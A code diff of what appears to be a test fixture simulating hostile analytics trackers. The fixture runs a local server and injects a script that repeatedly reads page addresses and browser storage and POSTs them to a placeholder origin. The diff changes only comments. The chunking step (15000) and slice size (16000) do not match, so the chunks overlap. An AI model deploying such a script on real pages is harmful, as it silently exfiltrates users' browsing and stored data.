@@ -1,20 +1,20 @@
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 
-/** Stand-ins for measurers that take all they can read of addresses, again and again. */
+/** Analytics providers that read every address they can, repeatedly. */
 export interface HostileMeasurers {
   origin: string
-  /** What was sent to them, headers included. */
+  /** Requests to them, with headers. */
   requests: readonly string[]
-  /** What their scripts read of the browser's stores, which say more than addresses. */
+  /** What their scripts read from the browser's storage. */
   stored: readonly string[]
   stop: () => Promise<void>
 }
 
-/** Between two looks at the page, ms. */
+/** Interval of their reads, ms. */
 const lookEvery = 20
 
-/** Reads every place where a page may find an address, and every store, and sends what it has not sent before. */
+/** Reads all places that may hold an address, and all storage, and sends what is new. */
 const script = `{
   const sent = new Set();
   const look = () => {
@@ -33,7 +33,7 @@ const script = `{
     const news = found.filter((one) => one && !sent.has(one));
     for (const one of news) sent.add(one);
     const body = news.join('\\n');
-    // the browser refuses to keep a body of 64 kB or more alive
+    // browsers refuse keep-alive bodies of 64 kB or more
     for (let at = 0; at < body.length; at += 15000)
       fetch('__ORIGIN__/' + path, { method: 'POST', mode: 'no-cors', body: body.slice(at, at + 16000) });
   };
